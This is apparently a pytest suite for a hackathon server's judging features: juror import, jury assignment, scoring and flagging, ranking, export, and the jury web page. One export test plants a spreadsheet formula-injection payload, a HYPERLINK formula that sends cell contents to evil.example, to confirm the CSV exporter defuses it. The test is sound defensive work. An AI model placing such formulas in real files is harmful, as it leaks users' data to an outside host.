"""Judging end to end: jurors imported, final submissions assigned k times without conflicts, scored,
flagged and re-assigned, ranked with normalised scores, the best selected and every team told; the
export; the jury page over real HTTP."""

from __future__ import annotations

import csv
import json
import re
from collections import Counter
from collections.abc import AsyncIterator, Callable
from datetime import datetime, timedelta
from pathlib import Path

import httpx
import pytest
import uvicorn
from sqlalchemy import func, select, update

from hackserver.app import create_app
from hackserver.cli import main
from hackserver.foundation import links
from hackserver.foundation.errors import CatalogueError, TooLate
from hackserver.foundation.i18n import say
from hackserver.foundation.models import (
    Challenge,
    ChannelMessage,
    Juror,
    JuryAssignment,
    Score,
    Submission,
    Team,
)
from hackserver.foundation.settings import Settings
from hackserver.judging import export, jurors, scoring
from hackserver.runtime import Runtime
from hackserver.submissions import entries
from tests.dbstate import migrate, settled_outbox
from tests.fakes import FakeClock
from tests.servers import runtime_of, serving
from tests.submissions.test_submissions import deadline, entry, new_team, save

JURORS_CSV = b"""name,organisation,categories,conflicts
Ada Lovelace,Charite,health,
Grace Hopper,BVG,mobility;health,
Katherine Johnson,,,
Hedy Lamarr,Uni Berlin,health,Team 1
Margaret Hamilton,,mobility,
"""


async def finals_ready(runtime: Runtime, clock: FakeClock, count: int = 4) -> list[int]:
    """`count` teams with submitted entries, alternately on a Charité health and a BVG mobility
    challenge; the deadline passes and they are frozen."""
    async with runtime.transaction() as tx:
        health = Challenge(event_id=runtime.event_id, external_id="H1", title="Betten", category="health",
                           owner_organisation="Charité")  # fmt: skip
        mobility = Challenge(event_id=runtime.event_id, external_id="M1", title="Wege", category="mobility",
                             owner_organisation="BVG")  # fmt: skip
        tx.session.add_all([health, mobility])
        await tx.session.flush()
        ids = (health.id, mobility.id)
    team_ids = []
    for n in range(count):
        team_id, members = await new_team(runtime, f"Team {n}")
        await save(runtime, team_id, entry(members, title=f"Entry {n}"))
        async with runtime.transaction() as tx:
            await tx.session.execute(update(Team).where(Team.id == team_id).values(challenge_id=ids[n % 2]))
        team_ids.append(team_id)
    clock.set(await deadline(runtime))
    async with runtime.transaction() as tx:
        await entries.freeze_due(tx)
        await jurors.upsert(tx, jurors.parse_csv(JURORS_CSV)[0], actor="test")
    return team_ids


async def assignments(runtime: Runtime) -> list[tuple[int, int, str | None]]:
    async with runtime.reading() as tx:
        rows = await tx.session.execute(
            select(JuryAssignment.submission_id, JuryAssignment.juror_id, JuryAssignment.flagged)
        )
        return [tuple(r) for r in rows]  # type: ignore[misc]


async def juror_ids(runtime: Runtime) -> dict[str, int]:
    async with runtime.reading() as tx:
        return {j.name: j.id for j in await tx.session.scalars(select(Juror))}


def test_a_juror_file_with_bad_rows_reports_them_all() -> None:
    _, problems = jurors.parse_csv(b"name,organisation,colour\n,Org,red\nAda,,\nAda,,\n")
    assert [str(p) for p in problems] == [
        "header: unknown column(s) colour; expected name, organisation, categories, conflicts",
        "row 2: name: missing",
        "row 4: name: Ada is listed twice",
    ]


def test_a_juror_file_that_is_not_text_is_refused_as_a_whole() -> None:
    with pytest.raises(CatalogueError) as bad:
        jurors.parse_csv("name\nJosé\n".encode("latin-1"))
    assert str(bad.value) == "not UTF-8 text; save the file as UTF-8 CSV"


async def test_each_final_is_assigned_k_times_without_conflicts(
    runtime_at: tuple[Runtime, FakeClock],
) -> None:
    runtime, clock = runtime_at
    await finals_ready(runtime, clock)
    async with runtime.transaction() as tx:
        run = await scoring.assign(tx, actor="test", seed=1)
    assert (run.submissions, run.assignments, run.short) == (4, 12, {})
    pairs = await assignments(runtime)
    assert set(Counter(s for s, _, _ in pairs).values()) == {3}
    loads = Counter(j for _, j, _ in pairs).values()
    assert max(loads) - min(loads) <= 1
    people = await juror_ids(runtime)
    async with runtime.reading() as tx:
        owner = dict((await tx.session.execute(select(JuryAssignment.submission_id, Challenge.owner_organisation)
                      .join(Submission, Submission.id == JuryAssignment.submission_id)
                      .join(Team, Team.id == Submission.team_id)
                      .join(Challenge, Challenge.id == Team.challenge_id))).all())  # fmt: skip
        team0 = await tx.session.scalar(select(Submission.id).join(Team).where(Team.name == "Team 1"))
    for submission, juror, _ in pairs:
        assert not (juror == people["Ada Lovelace"] and owner[submission] == "Charité")
        assert not (juror == people["Grace Hopper"] and owner[submission] == "BVG")
        assert not (juror == people["Hedy Lamarr"] and submission == team0)
    async with runtime.transaction() as tx:  # a second run leaves assigned submissions alone
        assert (await scoring.assign(tx, actor="test")).assignments == 0


async def test_no_assignment_before_the_deadline(runtime_at: tuple[Runtime, FakeClock]) -> None:
    runtime, _ = runtime_at
    with pytest.raises(TooLate):
        async with runtime.transaction() as tx:
            await scoring.assign(tx, actor="test")


async def test_a_flagged_submission_goes_to_another_juror_and_is_never_scored_zero(
    runtime_at: tuple[Runtime, FakeClock],
) -> None:
    runtime, clock = runtime_at
    await finals_ready(runtime, clock)
    async with runtime.transaction() as tx:
        await scoring.assign(tx, actor="test", seed=2)
    submission, juror, _ = (await assignments(runtime))[0]
    async with runtime.transaction() as tx:
        await scoring.score(tx, juror, submission, {"impact": "3", "feasibility": "3", "quality": "3"}, "")
        other = await scoring.flag(tx, juror, submission, "unreachable")
    on_it = [(j, f) for s, j, f in await assignments(runtime) if s == submission]
    assert other is not None and (other, None) in on_it and (juror, "unreachable") in on_it
    assert sum(f is None for _, f in on_it) == 3  # still three jurors who can score it
    second = next(j for j, f in on_it if f is None and j != other)
    async with runtime.transaction() as tx:  # a second flag sets it aside for the organisers
        assert await scoring.flag(tx, second, submission, "empty") is None
    async with runtime.reading() as tx:
        table = {s.submission.id: s for s in await scoring.standings(tx)}
    assert table[submission].flags == 2 and table[submission].ranked.count == 0  # no zero from the flagger


async def test_scores_out_of_range_are_refused_by_criterion(runtime_at: tuple[Runtime, FakeClock]) -> None:
    runtime, clock = runtime_at
    await finals_ready(runtime, clock, count=2)
    async with runtime.transaction() as tx:
        await scoring.assign(tx, actor="test")
    submission, juror, _ = (await assignments(runtime))[0]
    with pytest.raises(scoring.InvalidScores) as bad:
        async with runtime.transaction() as tx:
            await scoring.score(
                tx, juror, submission, {"impact": "11", "feasibility": "x", "quality": "²"}, ""
            )
    assert set(bad.value.problems) == {"impact", "feasibility", "quality"}


async def test_the_best_are_selected_and_every_team_is_told(runtime_at: tuple[Runtime, FakeClock]) -> None:
    runtime, clock = runtime_at
    team_ids = await finals_ready(runtime, clock)
    async with runtime.transaction() as tx:
        await scoring.assign(tx, actor="test")
    async with runtime.reading() as tx:
        titles = {s.id: f["title"] for s, _, f in await entries.finals(tx.session, runtime.event_id)}
    async with runtime.transaction() as tx:
        for submission, juror, _ in await assignments(runtime):
            mark = str(2 + int(titles[submission].split()[-1]) * 2)  # Entry 3 best, Entry 0 worst
            await scoring.score(
                tx, juror, submission, dict.fromkeys(("impact", "feasibility", "quality"), mark), ""
            )
    async with runtime.reading() as tx:
        table = await scoring.standings(tx)
    assert [titles[s.submission.id] for s in table] == ["Entry 3", "Entry 2", "Entry 1", "Entry 0"]
    assert all(s.ranked.count == 3 for s in table)
    async with runtime.transaction() as tx:
        chosen, _ = await scoring.select_top(tx, 1, per_category=True, actor="test")
    assert sorted(titles[c] for c in chosen) == ["Entry 2", "Entry 3"]  # best in health and in mobility
    await settled_outbox(runtime)
    async with runtime.reading() as tx:
        texts = list(await tx.session.scalars(select(ChannelMessage.text)))
    assert (
        sum("Glückwunsch" in t for t in texts) == 2
        and sum("nicht für das Umsetzungsprogramm" in t for t in texts) == 2
    )
    found = await export.tables(runtime)
    assert [r["team"] for r in found["ranking"]][:1] == ["Team 3"]
    assert len(found["submissions"]) == len(team_ids) and len(found["scores"]) == 12 * 3


async def test_the_export_writes_csv_and_json(runtime_at: tuple[Runtime, FakeClock], tmp_path: Path) -> None:
    runtime, clock = runtime_at
    await finals_ready(runtime, clock, count=2)
    found = await export.tables(runtime)
    written = export.write(found, tmp_path / "csv", "csv") + export.write(found, tmp_path / "json", "json")
    assert sorted(p.name for p, _ in written) == sorted(
        f"{n}.{f}" for n in ("ranking", "scores", "submissions") for f in ("csv", "json")
    )
    rows = json.loads((tmp_path / "json" / "submissions.json").read_text())
    assert {r["title"] for r in rows} == {"Entry 0", "Entry 1"} and rows[0]["status"] == "final"
    assert (tmp_path / "csv" / "submissions.csv").read_text().startswith("submission,team_id,team,status")


async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    runtime_at: tuple[Runtime, FakeClock], tmp_path: Path
) -> None:
    runtime, _ = runtime_at
    team_id, members = await new_team(runtime, "Team 1")
    attack = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
    await save(runtime, team_id, entry(members, title=attack, summary="@SUM(1+1)", problem="-2+3"))
    export.write(await export.tables(runtime), tmp_path, "csv")
    with (tmp_path / "submissions.csv").open(newline="") as f:
        row = next(csv.DictReader(f))
    assert (row["title"], row["summary"], row["problem"]) == ("'" + attack, "'@SUM(1+1)", "'-2+3")
    assert row["solution"] == "A live map of free beds." and row["version"] == "1"
    cells = [export.inert(c) for c in ("+1", "\t=1", "\r=1", "a=1", 1, -1, None)]
    assert cells == ["'+1", "'\t=1", "'\r=1", "a=1", 1, -1, None]  # numbers stay numbers


def test_a_jurors_name_is_imported_without_bidi_overrides() -> None:
    (row,), problems = jurors.parse_csv(
        "name,organisation,conflicts\n\u202eAda\u2066 Love\u200flace,Cha\u202drit\u00e9,Te\u200bam 1\n".encode()
    )
    assert (row.name, row.organisation, row.conflicts, problems) == (
        "Ada Lovelace",
        "Charité",
        ["team 1"],
        [],
    )


def test_jurors_import_from_the_command_line(
    sqlite_url: str, event_file: Callable[..., Path], kickoff: datetime, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    monkeypatch.setenv("HACKSERVER_DATABASE_URL", sqlite_url)
    monkeypatch.setenv("HACKSERVER_EVENT", str(event_file(kickoff=kickoff)))
    good, bad = tmp_path / "jurors.csv", tmp_path / "bad.csv"
    good.write_bytes(JURORS_CSV)
    bad.write_bytes(b"name,organisation\n,Org\n")
    assert main(["jurors", "import", str(bad)]) == 2
    assert "row 2: name: missing; nothing imported" in capsys.readouterr().err
    assert main(["jurors", "import", str(good)]) == 0
    assert "5 jurors imported" in capsys.readouterr().out
    assert main(["export", "--format", "json", "--out", str(tmp_path / "out")]) == 0
    assert (tmp_path / "out" / "ranking.json").read_text().strip() == "[]"


# -- the page ----------------------------------------------------------------------------------


@pytest.fixture
def clock(kickoff: datetime) -> FakeClock:
    return FakeClock(kickoff - timedelta(hours=1))


@pytest.fixture
async def server(
    database_url: str, event_file: Callable[..., Path], kickoff: datetime, free_port: int, clock: FakeClock
) -> AsyncIterator[uvicorn.Server]:
    settings = Settings(
        database_url=database_url, event_path=event_file(kickoff=kickoff), organiser_token="o" * 20
    )
    if not settings.is_sqlite:
        await migrate(database_url)
    async with serving(create_app(settings, clock=clock, run_clock=False), free_port) as server:
        yield server


def posted(pairs: dict[str, str]) -> dict[str, object]:
    from urllib.parse import urlencode

    return {"content": urlencode(pairs), "headers": {"Content-Type": "application/x-www-form-urlencoded"}}


async def test_a_juror_scores_and_flags_through_their_page(server: uvicorn.Server, clock: FakeClock) -> None:
    runtime = runtime_of(server)
    await finals_ready(runtime, clock, count=2)
    auth = {"Authorization": "Bearer " + "o" * 20}
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{server.config.port}", timeout=10) as client:
        assigned = await client.post("/api/v1/jury/assignment", json={"seed": 3}, headers=auth)
        assert assigned.status_code == 200 and assigned.json()["assignments"] == 6, assigned.text
        listed = (await client.get("/api/v1/jurors", headers=auth)).json()["jurors"]
        juror = next(j for j in listed if j["assigned"] > 0)
        page = await client.get(juror["link"] + "?lang=en")
        assert page.status_code == 200 and "Entry" in page.text
        submission = next(s for s, j, _ in await assignments(runtime) if j == juror["id"])
        target = f"{juror['link']}/{submission}?lang=en"
        bad = await client.post(
            target, **posted({"impact": "0", "feasibility": "5", "quality": "5", "action": "score"})
        )
        assert bad.status_code == 422 and f'aria-describedby="p{submission}-impact"' in bad.text
        good = await client.post(
            target, **posted({"impact": "7", "feasibility": "5", "quality": "5", "action": "score"})
        )
        assert good.status_code == 303
        assert 'value="7"' in (await client.get(good.headers["location"])).text
        flagged = await client.post(target, **posted({"action": "flag", "reason": "empty"}))
        assert flagged.status_code == 303
        ranking = (await client.get("/api/v1/ranking", headers=auth)).json()["ranking"]
        assert {r["submission"]: r["flags"] for r in ranking}[submission] == 1
        async with runtime.transaction() as tx:
            team_token = await links.grant(tx, "submit", submission)
        assert (await client.get(f"/jury/{team_token}")).status_code == 404
        stranger = next(j for j in listed if j["id"] != juror["id"])
        others = {s for s, j, _ in await assignments(runtime) if j == stranger["id"]}
        foreign = next(s for s, _, _ in await assignments(runtime) if s not in others)
        refused = await client.post(
            f"{stranger['link']}/{foreign}?lang=en", **posted({"impact": "5", "action": "score"})
        )
        assert refused.status_code == 409 and "not assigned to you" in refused.text
        selection = await client.post("/api/v1/selection", json={"top": 1}, headers=auth)
        assert selection.status_code == 200, selection.text
        assert len(selection.json()["selected"]) + len(selection.json()["not_selected"]) == 2


async def test_a_comment_past_its_limit_is_refused_and_no_score_is_kept(
    runtime_at: tuple[Runtime, FakeClock],
) -> None:
    runtime, clock = runtime_at
    await finals_ready(runtime, clock, count=2)
    async with runtime.transaction() as tx:
        await scoring.assign(tx, actor="test")
    submission, juror, _ = (await assignments(runtime))[0]
    fine = {"impact": "7", "feasibility": "6", "quality": "8"}
    with pytest.raises(scoring.InvalidScores) as bad:
        async with runtime.transaction() as tx:
            await scoring.score(tx, juror, submission, fine, "x" * 2001)
    [(field, problem)] = bad.value.problems.items()
    assert field == "comment"
    assert (
        say("en", problem.key, **problem.params)
        == "The comment has 2001 characters; at most 2000 are allowed."
    )
    async with runtime.reading() as tx:
        assert await tx.session.scalar(select(func.count()).select_from(Score)) == 0


async def test_a_refused_score_keeps_what_was_typed_and_the_form_posts_where_it_did(
    server: uvicorn.Server, clock: FakeClock
) -> None:
    runtime = runtime_of(server)
    await finals_ready(runtime, clock, count=2)
    async with runtime.transaction() as tx:
        await scoring.assign(tx, actor="test", seed=3)
    submission, juror, _ = (await assignments(runtime))[0]
    async with runtime.transaction() as tx:
        link = tx.links.address("jury", await links.grant(tx, "jury", juror))
    target = f"{link}/{submission}?lang=en"
    typed = {
        "impact": "0",
        "feasibility": "6",
        "quality": "9",
        "comment": "Clear <and> short",
        "action": "score",
    }
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{server.config.port}", timeout=10) as client:
        bad = await client.post(target, **posted(typed))
        assert bad.status_code == 422
        section = bad.text[bad.text.index(f'id="s{submission}"') :]
        assert f'action="{target}"' in section  # not one level deeper, which answers 404
        assert re.search(r'name="impact"[^>]*\s+value="0"', section)
        assert re.search(r'name="quality"[^>]*\s+value="9"', section)
        assert "Clear &lt;and&gt; short</textarea>" in section
        assert f'href="{link}?lang=de"' in bad.text  # the switcher reaches the page, not the form's address
        fixed = await client.post(target, **posted({**typed, "impact": "7"}))
        assert fixed.status_code == 303


async def test_a_juror_who_flagged_their_only_entry_reads_so(
    server: uvicorn.Server, clock: FakeClock
) -> None:
    runtime = runtime_of(server)
    await finals_ready(runtime, clock, count=2)
    async with runtime.transaction() as tx:
        await scoring.assign(tx, actor="test", seed=3)
    work = Counter(j for _, j, _ in await assignments(runtime))
    juror = next(j for j, n in work.items() if n == 1)
    (submission,) = [s for s, j, _ in await assignments(runtime) if j == juror]
    async with runtime.transaction() as tx:
        link = tx.links.address("jury", await links.grant(tx, "jury", juror))
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{server.config.port}", timeout=10) as client:
        flagged = await client.post(
            f"{link}/{submission}?lang=en", **posted({"action": "flag", "reason": "empty"})
        )
        assert flagged.status_code == 303
        page = (await client.get(flagged.headers["location"])).text
    assert 'id="count">Assigned to you: 0<' in page
    assert (
        '<p id="none">Nothing is left for you to score: what you flagged goes to another juror.</p>' in page
    )
    assert re.search(
        r'<ul id="flagged"><li>Entry \d <span class="hint">· Team \d · empty</span></li></ul>', page
    )
